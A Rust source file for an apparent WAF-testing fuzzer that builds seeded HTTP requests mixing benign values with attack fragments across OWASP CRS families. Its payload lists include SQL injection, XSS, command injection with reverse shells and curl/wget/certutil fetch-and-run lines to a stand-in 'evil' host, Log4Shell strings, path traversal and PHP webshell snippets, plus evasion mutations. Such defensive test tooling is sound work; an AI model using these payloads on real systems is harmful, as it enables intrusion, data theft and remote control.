//! The request generator: a seeded grammar of whole HTTP requests (method, path, query,
//! headers, body in every processor's format) filled with attack fragments of every CRS family
//! and benign text. Same seed, same requests: a disagreement found at night reproduces by day.
//!
//! It only produces requests HAProxy would forward (header names are tokens, values have no
//! CR/LF or NUL, the URI is ASCII), because nothing else ever reaches the agent.

/// xorshift64*: small, seeded, good enough to pick from lists.
#[derive(Debug, Clone)]
pub struct Rng(u64);

impl Rng {
    pub fn new(seed: u64) -> Self {
        // splitmix64 of the seed, so seeds 1, 2, 3 give unrelated streams.
        let mut z = seed.wrapping_add(0x9e37_79b9_7f4a_7c15);
        z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        Rng((z ^ (z >> 31)) | 1)
    }
    pub fn next_u64(&mut self) -> u64 {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545_f491_4f6c_dd1d)
    }
    pub fn below(&mut self, n: usize) -> usize {
        if n == 0 {
            return 0;
        }
        (self.next_u64() % n as u64) as usize
    }
    pub fn pick<'a>(&mut self, xs: &[&'a str]) -> &'a str {
        xs.get(self.below(xs.len())).copied().unwrap_or("")
    }
    pub fn chance(&mut self, percent: u64) -> bool {
        self.next_u64() % 100 < percent
    }
}

/// One generated request, in the corpus format's terms.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Request {
    pub name: String,
    pub method: String,
    pub uri: String,
    pub version: String,
    pub headers: Vec<(String, String)>,
    pub body: Vec<u8>,
}

impl Request {
    /// One corpus line (`shared/docs/corpus-format.md`).
    pub fn to_json(&self) -> String {
        let mut o = serde_json::Map::new();
        o.insert("name".into(), self.name.clone().into());
        o.insert("method".into(), self.method.clone().into());
        o.insert("uri".into(), self.uri.clone().into());
        o.insert("version".into(), self.version.clone().into());
        let hs: Vec<serde_json::Value> = self
            .headers
            .iter()
            .map(|(k, v)| serde_json::json!([k, v]))
            .collect();
        o.insert("headers".into(), hs.into());
        if !self.body.is_empty() {
            match std::str::from_utf8(&self.body) {
                Ok(s) => o.insert("body".into(), s.into()),
                Err(_) => o.insert("body_b64".into(), base64(&self.body).into()),
            };
        }
        serde_json::Value::Object(o).to_string()
    }

    /// Parses a corpus line back (for reproductions read from files).
    pub fn from_json(line: &str) -> Option<Request> {
        let v: serde_json::Value = serde_json::from_str(line).ok()?;
        let s = |k: &str, d: &str| v.get(k).and_then(|x| x.as_str()).unwrap_or(d).to_string();
        let headers = v
            .get("headers")
            .and_then(|h| h.as_array())
            .map(|hs| {
                hs.iter()
                    .filter_map(|p| {
                        Some((
                            p.get(0)?.as_str()?.to_string(),
                            p.get(1)?.as_str()?.to_string(),
                        ))
                    })
                    .collect()
            })
            .unwrap_or_default();
        let body = match v.get("body_b64").and_then(|b| b.as_str()) {
            Some(b) => unbase64(b)?,
            None => s("body", "").into_bytes(),
        };
        Some(Request {
            name: s("name", "r"),
            method: s("method", "GET"),
            uri: s("uri", "/"),
            version: s("version", "1.1"),
            headers,
            body,
        })
    }

    /// Sets Content-Length to the body's length (HAProxy forwards it; both engines read it).
    pub fn fix_content_length(&mut self) {
        self.headers
            .retain(|(k, _)| !k.eq_ignore_ascii_case("content-length"));
        if !self.body.is_empty() || self.method == "POST" || self.method == "PUT" {
            self.headers
                .push(("Content-Length".into(), self.body.len().to_string()));
        }
    }
}

const B64: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";

fn base64(b: &[u8]) -> String {
    let mut out = String::new();
    for c in b.chunks(3) {
        let n = (u32::from(c[0]) << 16)
            | (u32::from(*c.get(1).unwrap_or(&0)) << 8)
            | u32::from(*c.get(2).unwrap_or(&0));
        for i in 0..4 {
            if i <= c.len() {
                out.push(B64[((n >> (18 - 6 * i)) & 63) as usize] as char);
            } else {
                out.push('=');
            }
        }
    }
    out
}

fn unbase64(s: &str) -> Option<Vec<u8>> {
    let (mut out, mut acc, mut bits) = (Vec::new(), 0u32, 0);
    for c in s.bytes().filter(|&c| c != b'=') {
        let v = B64.iter().position(|&x| x == c)? as u32;
        acc = (acc << 6) | v;
        bits += 6;
        if bits >= 8 {
            bits -= 8;
            out.push((acc >> bits) as u8);
        }
    }
    Some(out)
}

/// Attack fragments by CRS family. Facts about attacks (what payloads look like), not rules.
pub mod attacks {
    pub const SQLI: &[&str] = &[
        "1' OR '1'='1",
        "' or 1=1--",
        "1 UNION SELECT password FROM users",
        "1' UNION ALL SELECT NULL,NULL--",
        "admin'--",
        "1; DROP TABLE users",
        "1' AND SLEEP(5)--",
        "1 AND 1=1",
        "' OR ''='",
        "1' waitfor delay '0:0:5'--",
        "1 and benchmark(1000000,md5(1))",
        "' union select @@version#",
        "1)) or ((1=1",
        "-1' or 1=1 limit 1 -- -",
        "1 or pg_sleep(5)",
        "';exec xp_cmdshell 'dir'--",
        "1' and extractvalue(1,concat(0x7e,version()))--",
        "1 /*!50000union*/ select 1",
        "' having 1=1--",
        "1' order by 3--",
        "x' AND 1=(SELECT COUNT(*) FROM tabname); --",
        "1 or 1 like 1",
        "admin' #",
        "1'||(select 1)||'",
        "1 procedure analyse()",
        "select load_file('/etc/passwd')",
        "1 into outfile '/tmp/x'",
        "@@datadir",
        "1' rlike (select",
        "case when 1=1 then 1 else 0 end",
        "char(0x41)",
        "1' and substring(version(),1,1)='5",
        "information_schema.tables",
        "';shutdown--",
        "1 union(select(1))",
        "1e1union select 1",
        "\" or \"\"=\"",
        "1' or '1'='1' /*",
        "sleep(10)#",
        "1;select pg_sleep(5)",
        "x' OR name LIKE '%",
        "1' GROUP BY 1,2,3--",
        "') or ('a'='a",
        "1 and 'a'='a'",
    ];
    pub const XSS: &[&str] = &[
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<svg/onload=alert(1)>",
        "<x onxxx=1",
        "<x/onxxx=1",
        "<X OnXxx=1",
        "<x onxxx=alert(1)",
        "\"><script>alert(1)</script>",
        "'><img src=x onerror=prompt(1)>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\"&#x6A;avascript:alert(1)\">",
        "<iframe src=\"data:text/html,<script>alert(1)</script>\">",
        "<body onload=alert(1)>",
        "<div style=\"background:url(javascript:alert(1))\">",
        "javascript:alert(document.cookie)",
        "<details open ontoggle=alert(1)>",
        "<math><mtext></mtext></math>",
        "\" onmouseover=\"alert(1)",
        "' onfocus='alert(1)' autofocus='",
        "<input autofocus onfocus=alert(1)>",
        "<object data=\"javascript:alert(1)\">",
        "<embed src=x>",
        "<base href=//evil>",
        "<meta http-equiv=refresh content=0;url=javascript:alert(1)>",
        "<!--<img src=--><img src=x onerror=alert(1)//>",
        "<style>@import'//evil'</style>",
        "expression(alert(1))",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
        "\\u003cimg src=x onerror=alert(1)\\u003e",
        "<img src=x:alert(alt) onerror=eval(src) alt=0>",
        "<svg><animate onbegin=alert(1) attributeName=x>",
        "<set attributeName=onmouseover to=alert(1)>",
        "<a href=\"jav&#x09;ascript:alert(1)\">",
        "<xss id=x tabindex=1 onfocus=alert(1)></xss>",
        "document.write('<img src=//x?'+document.cookie+'>')",
        "<isindex type=image src=1 onerror=alert(1)>",
        "<!DOCTYPE x><x>",
        "<?xml version=\"1.0\"?><x>",
        "vbscript:msgbox(1)",
        "<form action=javascript:alert(1)>",
        "<img src=\"x\" onerror=\"&#97;lert(1)\">",
        "<a style=\"x:expression(alert(1))\">",
        "<%= 7*7 %>",
        "<![CDATA[<script>alert(1)</script>]]>",
    ];
    pub const RCE_UNIX: &[&str] = &[
        ";cat /etc/passwd",
        "|id",
        "$(id)",
        "`id`",
        "; ls -la",
        "&& whoami",
        "|| uname -a",
        ";nc -e /bin/sh 10.0.0.1 4444",
        "; wget http://evil/x -O /tmp/x",
        "; curl http://evil/x|sh",
        ";c'a't /e't'c/pa's'swd",
        ";/???/c?t /???/p?ss??",
        ";cat${IFS}/etc/passwd",
        ";\\c\\a\\t /etc/passwd",
        "$(printf 'id')",
        "; bash -i >& /dev/tcp/10.0.0.1/8080 0>&1",
        "() { :; }; /bin/bash -c id",
        ";python -c 'import os;os.system(\"id\")'",
        ";perl -e 'exec \"/bin/sh\"'",
        "; sleep 10",
        "|/bin/ls",
        "; echo${IFS}hello",
        ";{cat,/etc/passwd}",
        "$(cat</etc/passwd)",
        "; chmod 777 x",
        "%0Aid",
        ";ps aux",
        ";netstat -an",
        "a;tail -f /var/log/x",
        ";busybox telnetd",
    ];
    pub const RCE_WIN: &[&str] = &[
        "& dir",
        "| type c:\\windows\\win.ini",
        "cmd.exe /c dir",
        "powershell -enc SQBFAFgA",
        "&& net user",
        "; ipconfig /all",
        "| certutil -urlcache -f http://evil/x x.exe",
        "powershell.exe -nop -w hidden -c IEX(New-Object Net.WebClient).DownloadString('http://x')",
        "c^m^d /c whoami",
        "cmd /c \"set x=who&&call %x%ami\"",
        "& systeminfo",
        "| tasklist",
        "%COMSPEC% /c dir",
        "& reg query HKLM",
        "wmic process list",
        "& ping -n 5 127.0.0.1",
        "start /b calc.exe",
        "| rundll32.exe javascript:\"\\..\\mshtml\"",
    ];
    pub const LFI: &[&str] = &[
        "../../../../etc/passwd",
        "..\\..\\..\\windows\\win.ini",
        "....//....//etc/passwd",
        "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
        "..%252f..%252fetc%252fpasswd",
        "/etc/shadow",
        "/proc/self/environ",
        "c:\\boot.ini",
        "file:///etc/passwd",
        "..%c0%af..%c0%afetc/passwd",
        "/var/log/apache2/access.log",
        "../../../../../../etc/hosts%00",
        ".htaccess",
        "/.git/config",
        "WEB-INF/web.xml",
        "/etc/issue",
        "../config/database.yml",
        "..;/..;/etc/passwd",
    ];
    pub const RFI: &[&str] = &[
        "http://evil.example/shell.txt?",
        "https://203.0.113.7/x.php",
        "ftp://evil.example/x.txt",
        "http://evil.example/x.txt%00",
        "HTTP://EVIL.EXAMPLE/",
        "\\\\evil\\share\\x.php",
        "http://127.0.0.1:8080/admin",
        "//evil.example/x",
        "http://evil.example/?",
    ];
    pub const PHP: &[&str] = &[
        "<?php system($_GET['c']); ?>",
        "php://filter/convert.base64-encode/resource=index.php",
        "php://input",
        "phpinfo()",
        "base64_decode('cGhwaW5mbygpOw==')",
        "eval($_POST[x])",
        "O:8:\"stdClass\":1:{s:1:\"a\";s:1:\"b\";}",
        "a:1:{i:0;O:1:\"X\":0:{}}",
        "<?= `id` ?>",
        "assert(\"system('id')\")",
        "${@phpinfo()}",
        "expect://id",
        "data://text/plain;base64,PD9waHAgc3lzdGVtKCdpZCcpOz8+",
        "$_SERVER['HTTP_X']",
        "file_get_contents('/etc/passwd')",
        "preg_replace('/.*/e','system(\"id\")','')",
        "allow_url_include=1",
        "auto_prepend_file=php://input",
        "zip://x.zip#y.php",
        "phar://x.phar",
        "call_user_func('system','id')",
        "$x=chr(115).chr(121)",
        "shell_exec('id')",
    ];
    pub const JAVA: &[&str] = &[
        "${jndi:ldap://evil.example/a}",
        "${${lower:j}ndi:${lower:l}dap://x/a}",
        "${jndi:rmi://x/a}",
        "java.lang.Runtime.getRuntime().exec(\"id\")",
        "class.module.classLoader.resources.context.parent.pipeline.first.pattern=x",
        "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}",
        "java.lang.ProcessBuilder",
        "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA",
        "org.apache.commons.collections.functors.InvokerTransformer",
        "${env:AWS_SECRET}",
        "#{T(java.lang.Runtime).getRuntime().exec('id')}",
        "javax.script.ScriptEngineManager",
        "java.net.URLClassLoader",
        "${script:javascript:java.lang.Runtime}",
        "com.sun.org.apache.xalan",
    ];
    pub const NODE: &[&str] = &[
        "require('child_process').exec('id')",
        "__proto__[admin]=1",
        "constructor.prototype.x=1",
        "{\"__proto__\":{\"isAdmin\":true}}",
        "process.mainModule.require('fs')",
        "_$$ND_FUNC$$_function(){}",
        "eval(String.fromCharCode(97,108))",
        "new Function('return process')()",
        "require(\"fs\").readFileSync",
        "child_process.spawn('sh')",
        "this.constructor.constructor('return process')()",
        "{{constructor.constructor('alert(1)')()}}",
        "Object.prototype.polluted",
        "process.env",
        "global.process.mainModule",
    ];
    pub const SESSION: &[&str] = &[
        "document.cookie=\"sessionid=1234\"",
        "<meta http-equiv=\"Set-Cookie\" content=\"sid=x\">",
        "jsessionid=ABCDEF0123456789",
        "PHPSESSID=deadbeef",
        "sessionid=abc",
        ".cookie=\"aspsessionid=x\"",
    ];
    pub const GENERIC: &[&str] = &[
        "{{7*7}}",
        "${7*7}",
        "<%= 7*7 %>",
        "#{7*7}",
        "{{config.items()}}",
        "@(1+2)",
        "{{''.__class__.__mro__[1].__subclasses__()}}",
        "<!--#exec cmd=\"id\"-->",
        "%0d%0aSet-Cookie:x=1",
        "\r\nLocation: http://evil",
        "&#x3c;",
        "%u0027",
        "%c0%ae",
        "\u{ff1c}script\u{ff1e}",
        "\u{0}",
    ];
    pub const ALL: &[&[&str]] = &[
        SQLI, XSS, RCE_UNIX, RCE_WIN, LFI, RFI, PHP, JAVA, NODE, SESSION, GENERIC,
    ];
}

const WORDS: &[&str] = &[
    "hello",
    "world",
    "search",
    "john",
    "smith",
    "product",
    "blue",
    "shoes",
    "2024-05-01",
    "42",
    "3.14",
    "john.doe@example.com",
    "Lorem ipsum dolor sit amet",
    "true",
    "false",
    "null",
    "en-US",
    "a1b2c3d4-e5f6-7890-abcd-ef0123456789",
    "dGhpcyBpcyBiYXNlNjQ=",
    "page",
    "10",
    "asc",
    "name",
    "O'Brien",
    "rock & roll",
    "50% off",
    "C++ or C#",
    "x=y",
    "a,b,c",
    "https://example.com/x?y=1",
    "caf\u{e9}",
    "\u{65e5}\u{672c}",
    "select a color",
    "drop-down",
    "union station",
    "script writer",
    "order by date",
    "--verbose",
    "/home/user",
    "image.png",
    "#anchor",
    "(555) 123-4567",
];

const PARAMS: &[&str] = &[
    "q",
    "id",
    "search",
    "page",
    "user",
    "name",
    "email",
    "file",
    "path",
    "url",
    "redirect",
    "cmd",
    "lang",
    "sort",
    "order",
    "callback",
    "next",
    "data",
    "input",
    "comment",
    "token",
    "a[]",
    "b[x]",
    "x.y",
    "ref",
    "include",
    "template",
    "debug",
    "session",
    "jsessionid",
    "PHPSESSID",
];

const UAS: &[&str] = &[
    "Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_0 like Mac OS X) AppleWebKit/605.1.15 Mobile/15E148",
    "curl/8.4.0", "python-requests/2.31.0", "Wget/1.21", "Go-http-client/1.1", "okhttp/4.12.0",
    "sqlmap/1.7#stable (https://sqlmap.org)", "Nikto/2.5.0", "masscan/1.3", "nmap scripting engine",
    "() { :; }; /bin/bash -c 'id'", "Mozilla/5.0 <script>alert(1)</script>", "${jndi:ldap://x/a}",
    "Googlebot/2.1 (+http://www.google.com/bot.html)", "", "x",
];

const PATHS: &[&str] = &[
    "/",
    "/index.php",
    "/index.html",
    "/api/v1/users",
    "/api/v1/items/42",
    "/search",
    "/login",
    "/wp-admin/admin-ajax.php",
    "/static/app.js",
    "/images/logo.png",
    "/cgi-bin/test.cgi",
    "/upload",
    "/graphql",
    "/admin/",
    "/download",
    "/app/page.jsp",
    "/default.aspx",
    "/x.asp",
];

const EXTS: &[&str] = &[
    "",
    "",
    "",
    ".php",
    ".bak",
    ".sql",
    ".env",
    ".git/config",
    ".config",
    ".old",
    ".log",
    ".ini",
    ".jsp",
    ".exe",
    ".dll",
    ".mdb",
    ".asa",
    ".cgi",
    ".py",
    ".sh",
    "~",
    ".swp",
];

/// Percent-encodes what a URI may not carry raw, and (at `level`) more: 0 = minimal,
/// 1 = also some random safe bytes, 2 = double encoding of `%`.
fn pct(rng: &mut Rng, s: &str, level: u8, plus_for_space: bool) -> String {
    let mut out = String::new();
    for &b in s.as_bytes() {
        let must = !(0x21..0x7f).contains(&b) || b"&=#%+?\"<>\\^`{|}".contains(&b);
        if b == b' ' && plus_for_space {
            out.push('+');
        } else if must || (level >= 1 && rng.chance(20)) {
            if level >= 2 && rng.chance(30) {
                out.push_str(&format!("%25{b:02X}"));
            } else if rng.chance(50) {
                out.push_str(&format!("%{b:02x}"));
            } else {
                out.push_str(&format!("%{b:02X}"));
            }
        } else {
            out.push(b as char);
        }
    }
    out
}

/// Header values: printable ASCII and tab only (what HAProxy passes untouched).
fn header_safe(s: &str) -> String {
    s.bytes()
        .map(|b| {
            if (0x20..0x7f).contains(&b) || b == b'\t' {
                b as char
            } else {
                '?'
            }
        })
        .collect()
}

/// Evasions applied to an attack fragment.
fn mutate(rng: &mut Rng, s: &str) -> String {
    match rng.below(10) {
        0 => s.to_uppercase(),
        1 => s
            .chars()
            .map(|c| {
                if rng.chance(50) {
                    c.to_ascii_uppercase()
                } else {
                    c.to_ascii_lowercase()
                }
            })
            .collect(),
        2 => s.replace(' ', rng.pick(&["/**/", "\t", "  ", "+", "%20", "\n"])),
        3 => format!("{}{}", rng.pick(WORDS), s),
        4 => format!("{s}{}", rng.pick(&["", "--", "#", ";", "//", "%00", " "])),
        5 => s.replace('<', "&lt;").replace('>', "&gt;"),
        _ => s.to_string(),
    }
}

/// A value: benign text, an attack fragment (possibly mutated), or both.
fn value(rng: &mut Rng, attack_pct: u64) -> String {
    if rng.chance(attack_pct) {
        let fam = attacks::ALL[rng.below(attacks::ALL.len())];
        let p = rng.pick(fam);
        let a = mutate(rng, p);
        if rng.chance(15) {
            format!("{} {}", rng.pick(WORDS), a)
        } else {
            a
        }
    } else {
        rng.pick(WORDS).to_string()
    }
}

fn params(rng: &mut Rng, n: usize, attack_pct: u64, level: u8) -> String {
    let mut parts = Vec::new();
    for _ in 0..n {
        let name = if rng.chance(5) {
            value(rng, 60)
        } else {
            rng.pick(PARAMS).to_string()
        };
        let plus = rng.chance(40);
        let k = pct(rng, &name, level, plus);
        if rng.chance(5) {
            parts.push(k);
        } else {
            let v = value(rng, attack_pct);
            let v = pct(rng, &v, level, plus);
            parts.push(format!("{k}={v}"));
        }
    }
    parts.join("&")
}

fn json_escape(s: &str) -> String {
    serde_json::Value::String(s.to_string()).to_string()
}

fn xml_escape(s: &str) -> String {
    s.replace('&', "&amp;")
        .replace('<', "&lt;")
        .replace('>', "&gt;")
}

/// The body and its Content-Type for a request that carries one.
fn body(rng: &mut Rng, attack_pct: u64) -> (Option<String>, Vec<u8>) {
    match rng.below(10) {
        0..=3 => {
            let ct = rng.pick(&[
                "application/x-www-form-urlencoded",
                "application/x-www-form-urlencoded; charset=UTF-8",
                "application/x-www-form-urlencoded;charset=utf-8",
                "APPLICATION/X-WWW-FORM-URLENCODED",
            ]);
            let n = 1 + rng.below(4);
            (Some(ct.into()), params(rng, n, attack_pct, 0).into_bytes())
        }
        4 | 5 => {
            let boundary = rng.pick(&["----WebKitFormBoundary7MA4YWxkTrZu0gW", "XyZ123", "b"]);
            let mut b = String::new();
            for _ in 0..1 + rng.below(3) {
                b.push_str(&format!("--{boundary}\r\n"));
                let name = rng.pick(PARAMS);
                if rng.chance(30) {
                    let file = format!(
                        "{}{}",
                        rng.pick(&["a", "shell", "x", "../../x", "report"]),
                        rng.pick(&[".txt", ".php", ".jpg", ".jsp", ".phtml", ".asp", ".exe", ""])
                    );
                    b.push_str(&format!(
                        "Content-Disposition: form-data; name=\"{name}\"; filename=\"{file}\"\r\nContent-Type: {}\r\n\r\n",
                        rng.pick(&["text/plain", "image/jpeg", "application/octet-stream", "application/x-php"])
                    ));
                } else {
                    b.push_str(&format!(
                        "Content-Disposition: form-data; name=\"{name}\"\r\n\r\n"
                    ));
                }
                b.push_str(&value(rng, attack_pct));
                b.push_str("\r\n");
            }
            b.push_str(&format!("--{boundary}--\r\n"));
            let ct = if rng.chance(20) {
                format!("multipart/form-data; boundary=\"{boundary}\"")
            } else {
                format!("multipart/form-data; boundary={boundary}")
            };
            (Some(ct), b.into_bytes())
        }
        6 | 7 => {
            let mut fields = Vec::new();
            for _ in 0..1 + rng.below(4) {
                let k = rng.pick(PARAMS);
                let v = match rng.below(5) {
                    0 => rng.below(1000).to_string(),
                    1 => format!("[{}]", json_escape(&value(rng, attack_pct))),
                    2 => format!(
                        "{{{}:{}}}",
                        json_escape(rng.pick(PARAMS)),
                        json_escape(&value(rng, attack_pct))
                    ),
                    _ => json_escape(&value(rng, attack_pct)),
                };
                fields.push(format!("{}:{v}", json_escape(k)));
            }
            let ct = rng.pick(&[
                "application/json",
                "application/json; charset=utf-8",
                "application/vnd.api+json",
            ]);
            (
                Some(ct.into()),
                format!("{{{}}}", fields.join(",")).into_bytes(),
            )
        }
        8 => {
            let ct = rng.pick(&["text/xml", "application/xml", "application/soap+xml"]);
            let inner = if rng.chance(20) {
                format!("<![CDATA[{}]]>", value(rng, attack_pct))
            } else {
                xml_escape(&value(rng, attack_pct))
            };
            let b = format!(
                "<?xml version=\"1.0\"?><root><{t}>{inner}</{t}><n a=\"{}\">1</n></root>",
                xml_escape(&value(rng, 10)).replace('"', "&quot;"),
                t = rng.pick(&["a", "item", "name"])
            );
            (Some(ct.into()), b.into_bytes())
        }
        _ => {
            let ct = rng.pick(&[
                "text/plain",
                "application/octet-stream",
                "application/x-foo",
                "text/html",
            ]);
            (Some(ct.into()), value(rng, attack_pct).into_bytes())
        }
    }
}

/// Request number `i` of the stream for `seed`: a pure function of both.
pub fn request(seed: u64, i: u64) -> Request {
    let mut rng = Rng::new(seed ^ i.wrapping_mul(0x9e37_79b9_7f4a_7c15));
    // Most requests carry an attack somewhere; some are wholly benign.
    let attack_pct = match rng.below(10) {
        0 | 1 => 0,
        2 => 15,
        _ => 45,
    };
    let method = match rng.below(20) {
        0..=9 => "GET",
        10..=15 => "POST",
        16 => "PUT",
        17 => rng.pick(&["HEAD", "DELETE", "OPTIONS", "PATCH"]),
        18 => rng.pick(&["GET", "POST"]),
        _ => rng.pick(&["TRACE", "PROPFIND", "FOO", "TRACK", "DEBUG"]),
    }
    .to_string();
    let version = match rng.below(20) {
        0 => "1.0",
        1 => "2",
        _ => "1.1",
    }
    .to_string();

    let mut path = rng.pick(PATHS).to_string();
    if rng.chance(15) {
        let seg = value(&mut rng, 80);
        path.push_str(&format!("/{}", pct(&mut rng, &seg, 1, false)));
    }
    if rng.chance(10) {
        path.push_str(rng.pick(&[
            "/../../etc/passwd",
            "/%2e%2e/%2e%2e/etc/passwd",
            "/..%2f..%2fetc",
            "//x//y",
            "/./a/./b",
            "/..%5c..%5cwindows",
            "/%252e%252e%252f",
            "/.%2e/",
            "/%c0%ae%c0%ae/",
        ]));
    }
    path.push_str(rng.pick(EXTS));
    let mut uri = path;
    if rng.chance(75) {
        let level = rng.below(3) as u8;
        let n = 1 + rng.below(4);
        uri.push('?');
        uri.push_str(&params(&mut rng, n, attack_pct, level));
    }

    let mut headers: Vec<(String, String)> = Vec::new();
    let host = if rng.chance(5) {
        rng.pick(&["203.0.113.5", "127.0.0.1:8080", "[::1]"])
            .to_string()
    } else {
        rng.pick(&["example.com", "www.example.com", "api.example.com:8443"])
            .to_string()
    };
    if !rng.chance(2) {
        headers.push(("Host".into(), host));
    }
    if !rng.chance(5) {
        headers.push(("User-Agent".into(), rng.pick(UAS).into()));
    }
    if !rng.chance(8) {
        headers.push((
            "Accept".into(),
            rng.pick(&[
                "*/*",
                "text/html,application/xhtml+xml;q=0.9,*/*;q=0.8",
                "application/json",
                "",
            ])
            .into(),
        ));
    }
    if rng.chance(50) {
        headers.push((
            "Accept-Language".into(),
            rng.pick(&["en-US,en;q=0.5", "de", "fr-FR"]).into(),
        ));
    }
    if rng.chance(50) {
        headers.push((
            "Accept-Encoding".into(),
            rng.pick(&["gzip, deflate, br", "identity", "gzip"]).into(),
        ));
    }
    if rng.chance(30) {
        let r = if rng.chance(30) {
            let v = value(&mut rng, 70);
            format!("http://evil.example/?x={}", pct(&mut rng, &v, 0, false))
        } else {
            "https://example.com/page".into()
        };
        headers.push(("Referer".into(), r));
    }
    if rng.chance(35) {
        let mut cs = Vec::new();
        for _ in 0..1 + rng.below(3) {
            let n = rng.pick(&[
                "session",
                "sid",
                "PHPSESSID",
                "theme",
                "lang",
                "uid",
                "JSESSIONID",
            ]);
            let v = value(&mut rng, attack_pct);
            cs.push(format!("{n}={}", header_safe(&v).replace(';', "%3B")));
        }
        headers.push(("Cookie".into(), cs.join("; ")));
    }
    if rng.chance(10) {
        headers.push((
            "X-Forwarded-For".into(),
            rng.pick(&["198.51.100.7", "10.0.0.1, 192.0.2.1", "unknown"])
                .into(),
        ));
    }
    if rng.chance(5) {
        headers.push((
            "Range".into(),
            rng.pick(&[
                "bytes=0-100",
                "bytes=0-1,2-3,4-5,6-7,8-9,10-11",
                "bytes=10-1",
            ])
            .into(),
        ));
    }
    if rng.chance(5) {
        headers.push((
            "Connection".into(),
            rng.pick(&["keep-alive", "close", "keep-alive, TE"]).into(),
        ));
    }
    if rng.chance(4) {
        headers.push(("X-Custom".into(), header_safe(&value(&mut rng, 60))));
    }

    let mut body = Vec::new();
    if matches!(method.as_str(), "POST" | "PUT" | "PATCH") {
        let (ct, b) = self::body(&mut rng, attack_pct);
        if let Some(ct) = ct {
            if !rng.chance(3) {
                headers.push(("Content-Type".into(), ct));
            }
        }
        body = b;
    }
    let mut r = Request {
        name: format!("s{seed}-{i}"),
        method,
        uri,
        version,
        headers,
        body,
    };
    r.fix_content_length();
    r
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn deterministic_and_round_trips() {
        for i in 0..500 {
            let a = request(7, i);
            assert_eq!(a, request(7, i));
            let back = Request::from_json(&a.to_json()).expect("parses back");
            assert_eq!(back, a);
            assert!(a.uri.is_ascii() && !a.uri.contains(' '), "{}", a.uri);
            for (k, v) in &a.headers {
                assert!(
                    !k.is_empty() && !v.contains(['\r', '\n', '\0']),
                    "{k}: {v:?}"
                );
            }
        }
        assert_ne!(request(7, 1), request(8, 1));
        assert_eq!(unbase64(&base64(b"\xff\x00ab")).unwrap(), b"\xff\x00ab");
    }
}
